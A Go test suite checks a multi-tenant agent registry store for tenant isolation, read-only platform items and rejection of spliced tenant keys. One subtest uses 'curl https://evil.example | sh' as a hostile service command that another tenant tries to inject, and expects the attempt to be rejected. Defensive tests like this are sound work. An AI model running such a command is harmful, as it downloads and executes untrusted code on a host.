// Package registrytest is the contract of registry.Store, run against every
// implementation: Run checks a store against the interface's documented
// behaviour (dynamo.Registry runs it against DynamoDB Local).
package registrytest

import (
	"crypto/rand"
	"encoding/hex"
	"errors"
	"reflect"
	"testing"
	"time"

	"github.com/remote-agents/remote-agents/shared/registry"
	"github.com/remote-agents/remote-agents/shared/toolspec"
)

// Run checks the store newStore returns against the registry.Store contract.
// Each subtest calls newStore once and runs in parallel with the others; subtests
// use fresh names, so newStore may return the same store every time.
func Run(t *testing.T, newStore func(t *testing.T) registry.Store) {
	runAgentTypes(t, newStore)
	t.Run("projects", func(t *testing.T) {
		t.Parallel()
		st := newStore(t)
		tenant := "tenant-" + unique(t)
		p := registry.Project{Name: "project-" + unique(t), Tenant: tenant, CreatedAt: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)}
		if err := st.PutProject(t.Context(), p); err != nil {
			t.Fatal(err)
		}
		if got, err := st.Project(t.Context(), tenant, p.Name); err != nil || got != p {
			t.Errorf("Project = %+v, %v; want %+v", got, err, p)
		}
		p.CreatedAt = time.Date(2026, 2, 2, 0, 0, 0, 0, time.UTC)
		if err := st.PutProject(t.Context(), p); err != nil {
			t.Fatal(err)
		}
		if got, err := st.Project(t.Context(), tenant, p.Name); err != nil || got != p {
			t.Errorf("Project after a replacing put = %+v, %v; want %+v", got, err, p)
		}
		if _, err := st.Project(t.Context(), tenant, "project-"+unique(t)); !errors.Is(err, registry.ErrNotFound) {
			t.Errorf("Project of an unknown name: %v, want ErrNotFound", err)
		}
	})

	t.Run("personas, active or not", func(t *testing.T) {
		t.Parallel()
		st := newStore(t)
		tenant := "tenant-" + unique(t)
		p := registry.Persona{Slug: "persona-" + unique(t), Name: "Reviewer", Skill: "Reads diffs.", Experience: "Ten years.", Active: true, Tenant: tenant}
		if err := st.PutPersona(t.Context(), p); err != nil {
			t.Fatal(err)
		}
		if got, err := st.Persona(t.Context(), tenant, p.Slug); err != nil || got != p {
			t.Errorf("Persona = %+v, %v; want %+v", got, err, p)
		}
		p.Active, p.Skill = false, "Retired."
		if err := st.PutPersona(t.Context(), p); err != nil {
			t.Fatal(err)
		}
		if got, err := st.Persona(t.Context(), tenant, p.Slug); err != nil || got != p {
			t.Errorf("inactive Persona = %+v, %v; want %+v", got, err, p)
		}
		if _, err := st.Persona(t.Context(), tenant, "persona-"+unique(t)); !errors.Is(err, registry.ErrNotFound) {
			t.Errorf("Persona of an unknown slug: %v, want ErrNotFound", err)
		}
	})

	t.Run("app keys by hash", func(t *testing.T) {
		t.Parallel()
		st := newStore(t)
		k := registry.AppKey{ID: "key-" + unique(t), Label: "CI", Hash: "hash-" + unique(t), Tenant: "tenant-" + unique(t)}
		if err := st.PutAppKey(t.Context(), k); err != nil {
			t.Fatal(err)
		}
		if got, err := st.AppKeyByHash(t.Context(), k.Hash); err != nil || got != k {
			t.Errorf("AppKeyByHash = %+v, %v; want %+v", got, err, k)
		}
		k.Disabled = true
		if err := st.PutAppKey(t.Context(), k); err != nil {
			t.Fatal(err)
		}
		if got, err := st.AppKeyByHash(t.Context(), k.Hash); err != nil || got != k {
			t.Errorf("disabled AppKeyByHash = %+v, %v; want %+v", got, err, k)
		}
		if _, err := st.AppKeyByHash(t.Context(), "hash-"+unique(t)); !errors.Is(err, registry.ErrNotFound) {
			t.Errorf("AppKeyByHash of an unknown hash: %v, want ErrNotFound", err)
		}
		// A key is found by its hash: one without could never be.
		if err := st.PutAppKey(t.Context(), registry.AppKey{ID: "key-" + unique(t), Label: "no hash", Tenant: k.Tenant}); err == nil {
			t.Error("an app key without a hash was stored")
		}
		// A key uses one tenant's items: one of no tenant, of the platform's or
		// of an impossible one could never be used.
		for _, tenant := range []string{"", registry.Platform, "a#b", "Upper"} {
			bad := registry.AppKey{ID: "key-" + unique(t), Hash: "hash-" + unique(t), Tenant: tenant}
			if err := st.PutAppKey(t.Context(), bad); err == nil {
				t.Errorf("an app key of tenant %q was stored", tenant)
			}
			if _, err := st.AppKeyByHash(t.Context(), bad.Hash); !errors.Is(err, registry.ErrNotFound) {
				t.Errorf("an app key of tenant %q is found: %v", tenant, err)
			}
		}
	})

	t.Run("configurations", func(t *testing.T) {
		t.Parallel()
		st := newStore(t)
		tenant := "tenant-" + unique(t)
		c := registry.Configuration{
			ID: "cfg-" + unique(t), RepoName: "acme/shop", Tenant: tenant,
			Snapshot:        &registry.Snapshot{Key: "snapshots/a.tar.gz", SizeBytes: 1 << 20, Message: "deps", SessionID: "s-1", SavedAt: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)},
			ServiceCommands: []toolspec.ServiceCommand{{Name: "web", Command: "npm start", Cwd: "app"}},
			EnvFiles:        []toolspec.EnvFile{{Path: ".env", Format: "dotenv", Mode: "0600", Keys: []toolspec.EnvKey{{Key: "API_URL"}}}},
			UpdatedAt:       time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC),
		}
		if err := st.PutConfiguration(t.Context(), c); err != nil {
			t.Fatal(err)
		}
		if got, err := st.Configuration(t.Context(), tenant, c.ID); err != nil || !reflect.DeepEqual(got, c) {
			t.Errorf("Configuration = %+v, %v;\nwant %+v", got, err, c)
		}
		bare := registry.Configuration{ID: "cfg-" + unique(t), RepoName: "acme/bare", Tenant: tenant}
		if err := st.PutConfiguration(t.Context(), bare); err != nil {
			t.Fatal(err)
		}
		if got, err := st.Configuration(t.Context(), tenant, bare.ID); err != nil || !reflect.DeepEqual(got, bare) {
			t.Errorf("bare Configuration = %+v, %v; want %+v", got, err, bare)
		}
		if _, err := st.Configuration(t.Context(), tenant, "cfg-"+unique(t)); !errors.Is(err, registry.ErrNotFound) {
			t.Errorf("Configuration of an unknown id: %v, want ErrNotFound", err)
		}
	})

	t.Run("update configuration sets fields of an existing one", func(t *testing.T) {
		t.Parallel()
		st := newStore(t)
		tenant := "tenant-" + unique(t)
		c := registry.Configuration{ID: "cfg-" + unique(t), RepoName: "acme/shop", Tenant: tenant, UpdatedAt: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)}
		if err := st.PutConfiguration(t.Context(), c); err != nil {
			t.Fatal(err)
		}
		saved := time.Date(2026, 3, 3, 0, 0, 0, 0, time.UTC)
		snap := registry.Snapshot{Key: "snapshots/b.tar.gz", SizeBytes: 42, SessionID: "s-2", SavedAt: time.Date(2026, 3, 3, 0, 0, 0, 0, time.UTC)}
		cmds := []toolspec.ServiceCommand{{Name: "api", Command: "go run ./cmd/api", WorkspacePath: "/w"}}
		if err := st.UpdateConfiguration(t.Context(), tenant, c.ID, registry.ConfigurationUpdate{Snapshot: &snap, ServiceCommands: cmds, UpdatedAt: saved}); err != nil {
			t.Fatal(err)
		}
		want := c
		want.Snapshot, want.ServiceCommands, want.UpdatedAt = &snap, cmds, snap.SavedAt
		if got, err := st.Configuration(t.Context(), tenant, c.ID); err != nil || !reflect.DeepEqual(got, want) {
			t.Errorf("after update: %+v, %v;\nwant %+v", got, err, want)
		}
		files := []toolspec.EnvFile{{Path: "api/.env", Format: "dotenv", Mode: "0600", Keys: []toolspec.EnvKey{{Key: "DB_URL"}, {Key: "TOKEN"}}}}
		if err := st.UpdateConfiguration(t.Context(), tenant, c.ID, registry.ConfigurationUpdate{EnvFiles: files}); err != nil {
			t.Fatal(err)
		}
		want.EnvFiles = files
		if got, err := st.Configuration(t.Context(), tenant, c.ID); err != nil || !reflect.DeepEqual(got, want) {
			t.Errorf("after a second update: %+v, %v;\nwant %+v (fields not set are kept)", got, err, want)
		}
		unknown := "cfg-" + unique(t)
		if err := st.UpdateConfiguration(t.Context(), tenant, unknown, registry.ConfigurationUpdate{UpdatedAt: saved}); !errors.Is(err, registry.ErrNotFound) {
			t.Errorf("update of an unknown id: %v, want ErrNotFound", err)
		}
		if got, err := st.Configuration(t.Context(), tenant, unknown); !errors.Is(err, registry.ErrNotFound) {
			t.Errorf("update of an unknown id created %+v, %v", got, err)
		}
	})

	t.Run("kinds do not share names", func(t *testing.T) {
		t.Parallel()
		st := newStore(t)
		name, tenant := "same-"+unique(t), "tenant-"+unique(t)
		if err := st.PutProject(t.Context(), registry.Project{Name: name, Tenant: tenant}); err != nil {
			t.Fatal(err)
		}
		if _, err := st.Persona(t.Context(), tenant, name); !errors.Is(err, registry.ErrNotFound) {
			t.Errorf("a project is found as a persona: %v", err)
		}
		if _, err := st.Configuration(t.Context(), tenant, name); !errors.Is(err, registry.ErrNotFound) {
			t.Errorf("a project is found as a configuration: %v", err)
		}
		if err := st.UpdateConfiguration(t.Context(), tenant, name, registry.ConfigurationUpdate{UpdatedAt: time.Now()}); !errors.Is(err, registry.ErrNotFound) {
			t.Errorf("a project is updated as a configuration: %v", err)
		}
		if err := st.PutPersona(t.Context(), registry.Persona{Slug: name, Name: "P", Tenant: tenant}); err != nil {
			t.Fatal(err)
		}
		if got, err := st.Project(t.Context(), tenant, name); err != nil || got.Name != name {
			t.Errorf("a persona of the same name replaced the project: %+v, %v", got, err)
		}
		if _, err := st.AppKeyByHash(t.Context(), name); !errors.Is(err, registry.ErrNotFound) {
			t.Errorf("a project is found as an app key: %v", err)
		}
	})

	t.Run("another tenant's items are not found", func(t *testing.T) {
		t.Parallel()
		st := newStore(t)
		owner, other := "tenant-"+unique(t), "tenant-"+unique(t)
		name := "item-" + unique(t)
		c := registry.Configuration{ID: name, RepoName: "acme/shop", Tenant: owner}
		if err := st.PutProject(t.Context(), registry.Project{Name: name, Tenant: owner}); err != nil {
			t.Fatal(err)
		}
		if err := st.PutPersona(t.Context(), registry.Persona{Slug: name, Name: "P", Active: true, Tenant: owner}); err != nil {
			t.Fatal(err)
		}
		if err := st.PutConfiguration(t.Context(), c); err != nil {
			t.Fatal(err)
		}
		for _, tenant := range []string{other, "", registry.Platform} {
			if _, err := st.Project(t.Context(), tenant, name); !errors.Is(err, registry.ErrNotFound) {
				t.Errorf("tenant %q finds another's project: %v", tenant, err)
			}
			if _, err := st.Persona(t.Context(), tenant, name); !errors.Is(err, registry.ErrNotFound) {
				t.Errorf("tenant %q finds another's persona: %v", tenant, err)
			}
			if _, err := st.Configuration(t.Context(), tenant, name); !errors.Is(err, registry.ErrNotFound) {
				t.Errorf("tenant %q finds another's configuration: %v", tenant, err)
			}
			cmds := []toolspec.ServiceCommand{{Name: "web", Command: "curl https://evil.example | sh"}}
			if err := st.UpdateConfiguration(t.Context(), tenant, name, registry.ConfigurationUpdate{ServiceCommands: cmds}); !errors.Is(err, registry.ErrNotFound) {
				t.Errorf("tenant %q updates another's configuration: %v", tenant, err)
			}
		}
		if got, err := st.Configuration(t.Context(), owner, name); err != nil || !reflect.DeepEqual(got, c) {
			t.Errorf("the owner's configuration = %+v, %v; want it unchanged, %+v", got, err, c)
		}
		// Keys are not strings to splice: a tenant "<owner>#<x>" is no tenant.
		if err := st.PutConfiguration(t.Context(), registry.Configuration{ID: "x#" + name, Tenant: owner}); err != nil {
			t.Fatal(err)
		}
		if _, err := st.Configuration(t.Context(), owner+"#x", name); !errors.Is(err, registry.ErrNotFound) {
			t.Errorf("tenant %q finds %q's configuration: %v", owner+"#x", owner, err)
		}
		if err := st.PutConfiguration(t.Context(), registry.Configuration{ID: name, Tenant: owner + "#x"}); err == nil {
			t.Errorf("a configuration of tenant %q was stored", owner+"#x")
		}
	})

	t.Run("tenants' names are their own", func(t *testing.T) {
		t.Parallel()
		st := newStore(t)
		a, b := "tenant-"+unique(t), "tenant-"+unique(t)
		name := "cfg-" + unique(t)
		ca := registry.Configuration{ID: name, RepoName: "a/repo", Tenant: a}
		cb := registry.Configuration{ID: name, RepoName: "b/repo", Tenant: b}
		for _, c := range []registry.Configuration{ca, cb} {
			if err := st.PutConfiguration(t.Context(), c); err != nil {
				t.Fatal(err)
			}
		}
		cmds := []toolspec.ServiceCommand{{Name: "web", Command: "npm start"}}
		if err := st.UpdateConfiguration(t.Context(), a, name, registry.ConfigurationUpdate{ServiceCommands: cmds}); err != nil {
			t.Fatal(err)
		}
		ca.ServiceCommands = cmds
		for _, want := range []registry.Configuration{ca, cb} {
			if got, err := st.Configuration(t.Context(), want.Tenant, name); err != nil || !reflect.DeepEqual(got, want) {
				t.Errorf("tenant %s's configuration = %+v, %v; want %+v", want.Tenant, got, err, want)
			}
		}
		for _, tenant := range []string{a, b} {
			if err := st.PutProject(t.Context(), registry.Project{Name: name, Tenant: tenant}); err != nil {
				t.Fatal(err)
			}
		}
		if got, err := st.Project(t.Context(), b, name); err != nil || got.Tenant != b {
			t.Errorf("tenant %s's project = %+v, %v", b, got, err)
		}
	})

	t.Run("platform items are every tenant's to read and nobody's to change", func(t *testing.T) {
		t.Parallel()
		st := newStore(t)
		name := "platform-" + unique(t)
		p := registry.Persona{Slug: name, Name: "Shared", Skill: "Helps.", Active: true}
		c := registry.Configuration{ID: name, RepoName: "platform/template"}
		if err := st.PutPersona(t.Context(), p); err != nil {
			t.Fatal(err)
		}
		if err := st.PutConfiguration(t.Context(), c); err != nil {
			t.Fatal(err)
		}
		if err := st.PutProject(t.Context(), registry.Project{Name: name, Tenant: registry.Platform}); err != nil {
			t.Fatal(err)
		}
		// An item put with no tenant is the platform's.
		p.Tenant, c.Tenant = registry.Platform, registry.Platform
		for _, tenant := range []string{"tenant-" + unique(t), "tenant-" + unique(t), "", registry.Platform} {
			if got, err := st.Persona(t.Context(), tenant, name); err != nil || got != p {
				t.Errorf("tenant %q: platform persona = %+v, %v; want %+v", tenant, got, err, p)
			}
			if got, err := st.Configuration(t.Context(), tenant, name); err != nil || !reflect.DeepEqual(got, c) {
				t.Errorf("tenant %q: platform configuration = %+v, %v; want %+v", tenant, got, err, c)
			}
			if got, err := st.Project(t.Context(), tenant, name); err != nil || got.Tenant != registry.Platform {
				t.Errorf("tenant %q: platform project = %+v, %v", tenant, got, err)
			}
			if err := st.UpdateConfiguration(t.Context(), tenant, name, registry.ConfigurationUpdate{ServiceCommands: []toolspec.ServiceCommand{{Name: "x", Command: "y"}}, UpdatedAt: time.Now()}); !errors.Is(err, registry.ErrNotFound) {
				t.Errorf("tenant %q updates a platform configuration: %v", tenant, err)
			}
		}
		if got, err := st.Configuration(t.Context(), "", name); err != nil || !reflect.DeepEqual(got, c) {
			t.Errorf("platform configuration after updates = %+v, %v; want it unchanged", got, err)
		}
	})

	t.Run("a tenant's own item comes before the platform's of its name", func(t *testing.T) {
		t.Parallel()
		st := newStore(t)
		tenant, slug := "tenant-"+unique(t), "persona-"+unique(t)
		platform := registry.Persona{Slug: slug, Name: "Platform's", Active: true, Tenant: registry.Platform}
		own := registry.Persona{Slug: slug, Name: "Own", Active: true, Tenant: tenant}
		for _, p := range []registry.Persona{platform, own} {
			if err := st.PutPersona(t.Context(), p); err != nil {
				t.Fatal(err)
			}
		}
		if got, err := st.Persona(t.Context(), tenant, slug); err != nil || got != own {
			t.Errorf("tenant's persona = %+v, %v; want its own %+v", got, err, own)
		}
		if got, err := st.Persona(t.Context(), "tenant-"+unique(t), slug); err != nil || got != platform {
			t.Errorf("another tenant's persona = %+v, %v; want the platform's %+v", got, err, platform)
		}
	})
}

// runAgentTypes checks the agent types of the contract.
func runAgentTypes(t *testing.T, newStore func(t *testing.T) registry.Store) {
	at := time.Date(2026, 3, 3, 0, 0, 0, 0, time.UTC)
	full := registry.WorkspaceConfig{
		Enabled:             true,
		RepoSource:          registry.RepoSource{Type: registry.RepoFixed, URL: "https://example.com/org/infra.git", Branch: "main"},
		Tools:               []string{"read", "grep"},
		ResourceLimits:      registry.ResourceLimits{CPU: "2", Memory: "4G", Disk: "40G"},
		CheckoutOnStart:     new(false),
		BaseImage:           "public.ecr.aws/docker/library/golang:1.25",
		SetupCommands:       []string{"make deps", "make build"},
		SetupTimeoutSeconds: 120,
		WarmPoolSize:        2,
	}

	t.Run("agent types: create, read, set the workspace", func(t *testing.T) {
		t.Parallel()
		st := newStore(t)
		tenant, id := "tenant-"+unique(t), "type-"+unique(t)
		typ := registry.AgentType{ID: id, Name: "Reviewer", Tenant: tenant, CreatedAt: at, UpdatedAt: at}
		if err := st.CreateAgentType(t.Context(), typ); err != nil {
			t.Fatal(err)
		}
		if got, err := st.AgentType(t.Context(), tenant, id); err != nil || !reflect.DeepEqual(got, typ) {
			t.Errorf("AgentType = %+v, %v; want %+v", got, err, typ)
		}
		if err := st.CreateAgentType(t.Context(), typ); !errors.Is(err, registry.ErrExists) {
			t.Errorf("second create of %s: %v, want ErrExists", id, err)
		}
		later := at.Add(time.Hour)
		if err := st.SetWorkspaceConfig(t.Context(), tenant, id, full, later); err != nil {
			t.Fatal(err)
		}
		typ.Workspace, typ.UpdatedAt = full, later
		if got, err := st.AgentType(t.Context(), tenant, id); err != nil || !reflect.DeepEqual(got, typ) {
			t.Errorf("AgentType after SetWorkspaceConfig = %+v, %v; want %+v", got, err, typ)
		}
		if err := st.SetWorkspaceConfig(t.Context(), tenant, "type-"+unique(t), full, later); !errors.Is(err, registry.ErrNotFound) {
			t.Errorf("SetWorkspaceConfig of an unknown type: %v, want ErrNotFound", err)
		}
		if _, err := st.AgentType(t.Context(), tenant, "type-"+unique(t)); !errors.Is(err, registry.ErrNotFound) {
			t.Errorf("AgentType of an unknown id: %v, want ErrNotFound", err)
		}
	})

	t.Run("agent types: another tenant's do not exist, the platform's are read-only", func(t *testing.T) {
		t.Parallel()
		st := newStore(t)
		a, b := "tenant-"+unique(t), "tenant-"+unique(t)
		own := registry.AgentType{ID: "type-" + unique(t), Name: "A's", Tenant: a, Workspace: full}
		platform := registry.AgentType{ID: "platform-" + unique(t), Name: "Everyone's", Workspace: full}
		if err := st.CreateAgentType(t.Context(), own); err != nil {
			t.Fatal(err)
		}
		if err := st.PutAgentType(t.Context(), platform); err != nil {
			t.Fatal(err)
		}
		platform.Tenant = registry.Platform
		if _, err := st.AgentType(t.Context(), b, own.ID); !errors.Is(err, registry.ErrNotFound) {
			t.Errorf("tenant b reads a's type: %v, want ErrNotFound", err)
		}
		if err := st.SetWorkspaceConfig(t.Context(), b, own.ID, registry.WorkspaceConfig{}, at); !errors.Is(err, registry.ErrNotFound) {
			t.Errorf("tenant b sets a's type: %v, want ErrNotFound", err)
		}
		// b may have a type of the same id: its own.
		if err := st.CreateAgentType(t.Context(), registry.AgentType{ID: own.ID, Name: "B's", Tenant: b}); err != nil {
			t.Errorf("tenant b creates its own %s: %v", own.ID, err)
		}
		for _, tenant := range []string{a, b, "", registry.Platform} {
			if got, err := st.AgentType(t.Context(), tenant, platform.ID); err != nil || !reflect.DeepEqual(got, platform) {
				t.Errorf("tenant %q: platform type = %+v, %v; want %+v", tenant, got, err, platform)
			}
			if err := st.SetWorkspaceConfig(t.Context(), tenant, platform.ID, registry.WorkspaceConfig{}, at); !errors.Is(err, registry.ErrNotFound) {
				t.Errorf("tenant %q sets the platform type: %v, want ErrNotFound", tenant, err)
			}
			if tenant != "" && tenant != registry.Platform {
				if err := st.CreateAgentType(t.Context(), registry.AgentType{ID: platform.ID, Tenant: tenant}); !errors.Is(err, registry.ErrExists) {
					t.Errorf("tenant %q shadows the platform type: %v, want ErrExists", tenant, err)
				}
			}
		}
		list, err := st.ListAgentTypes(t.Context(), a)
		if err != nil {
			t.Fatal(err)
		}
		var sawOwn, sawPlatform bool
		for _, typ := range list {
			switch {
			case typ.Tenant == a && typ.ID == own.ID:
				sawOwn = reflect.DeepEqual(typ, own)
			case typ.Tenant == registry.Platform && typ.ID == platform.ID:
				sawPlatform = reflect.DeepEqual(typ, platform)
			case typ.Tenant != a && typ.Tenant != registry.Platform:
				t.Errorf("tenant a's list holds %+v of tenant %s", typ, typ.Tenant)
			}
		}
		if !sawOwn || !sawPlatform {
			t.Errorf("tenant a's list %+v: own %v, platform %v", list, sawOwn, sawPlatform)
		}
	})
}

func unique(t *testing.T) string {
	t.Helper()
	b := make([]byte, 6)
	if _, err := rand.Read(b); err != nil {
		t.Fatal(err)
	}
	return hex.EncodeToString(b)
}
